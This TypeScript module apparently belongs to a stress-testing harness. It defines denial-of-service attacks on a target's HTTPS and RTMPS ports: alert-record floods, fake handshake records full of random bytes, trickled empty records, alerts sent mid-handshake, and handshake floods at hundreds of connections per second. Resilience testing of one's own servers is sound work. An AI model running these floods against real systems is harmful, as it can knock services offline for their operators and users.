/**
 * Attacks on TLS, over HTTPS and RTMPS, by somebody without a key.
 */
import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { type AddressInfo, createServer, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect } from 'node:tls';
import type { Attack, Target } from './attack.ts';
import { type Connects, connects } from './flood.ts';

/** The ports that speak TLS. */
const PORTS: Readonly<Record<string, (target: Target) => number>> = {
  HTTPS: ({ httpPort }) => httpPort,
  RTMPS: ({ rtmpsPort }) => rtmpsPort,
};

/** A TLS record with one alert (RFC 8446 §6). */
const alert = (level: number, description: number): Buffer => Buffer.of(0x15, 3, 3, 0, 2, level, description);
const FATAL = 2;
const WARNING = 1;
const DESCRIPTIONS = [0, 10, 20, 21, 22, 40, 42, 43, 44, 45, 46, 47, 48, 50, 51, 70, 71, 80, 90, 109, 112, 120, 255];

/** The attacks, by their names in the table of results. */
export const TLS_ATTACKS: Readonly<Record<string, Attack>> = Object.fromEntries(
  Object.entries(PORTS).flatMap(([name, portOf]) => {
    const connecting =
      (how: Omit<Connects, 'port'>): Attack =>
      (run) =>
        connects({ ...how, port: portOf(run.target) }, run);
    return [
      [`TLS alerts at once, ${name}`, connecting({ perS: 1000, lingerMs: 1000, use: sendAlerts })],
      [`TLS alerts in the handshake, ${name}`, alertsInHandshake(portOf)],
      [`bytes that are not TLS, ${name}`, connecting({ perS: 1000, lingerMs: 1000, use: sendNoise })],
      [`tiny TLS records, ${name}`, connecting({ perS: 500, lingerMs: 1000, use: sendTinyRecords })],
      [`TLS handshakes, ${name}`, connecting({ perS: 500, lingerMs: 200, tls: true })],
    ] satisfies [string, Attack][];
  }),
);

async function sendAlerts(socket: Socket): Promise<void> {
  socket.write(Buffer.concat(DESCRIPTIONS.flatMap((each) => [alert(WARNING, each), alert(FATAL, each)])));
}

async function sendNoise(socket: Socket): Promise<void> {
  // The record says that it is a handshake, but it holds random bytes.
  socket.write(Buffer.concat([Buffer.of(0x16, 3, 1, 0x3e, 0x80), randomBytes(16_000)]));
}

/**
 * The beginning of a handshake message that is never completed: its header, and then records without payload. These are as many bytes, in
 * almost as many pieces, as a server accepts while it waits for a ClientHello.
 */
const TINY_RECORDS = Buffer.concat([
  Buffer.of(0x16, 3, 1, 0, 4, 1, 0xff, 0xff, 0xff),
  ...Array<Buffer>(3276).fill(Buffer.of(0x16, 3, 1, 0, 0)),
]).subarray(0, 16_383);
const PIECES = 15;
const PIECE_BYTES = Math.ceil(TINY_RECORDS.length / PIECES);

async function sendTinyRecords(socket: Socket): Promise<void> {
  socket.setNoDelay(true);
  for (let at = 0; at < TINY_RECORDS.length && socket.writable; at += PIECE_BYTES) {
    socket.write(TINY_RECORDS.subarray(at, at + PIECE_BYTES));
    await sleep(20);
  }
}

/** An attack that answers the server's part of the handshake with an alert. */
function alertsInHandshake(portOf: (target: Target) => number): Attack {
  return async (run) => {
    const hello = await clientHello();
    let sent = 0;
    const use: NonNullable<Connects['use']> = async (socket) => {
      socket.write(hello);
      await once(socket, 'data');
      sent += 1;
      socket.write(alert(FATAL, DESCRIPTIONS[sent % DESCRIPTIONS.length]!));
    };
    await connects({ port: portOf(run.target), perS: 500, lingerMs: 1000, use }, run);
  };
}

/** The first message of a TLS client, received by a server that never answers. */
async function clientHello(): Promise<Buffer> {
  await using server = createServer().listen(0, '127.0.0.1');
  await once(server, 'listening');
  const client = connect({ port: (server.address() as AddressInfo).port, host: '127.0.0.1' });
  client.on('error', () => {});
  const [socket] = (await once(server, 'connection')) as [Socket];
  const [hello] = (await once(socket, 'data')) as [Buffer];
  client.destroy();
  socket.destroy();
  return hello;
}
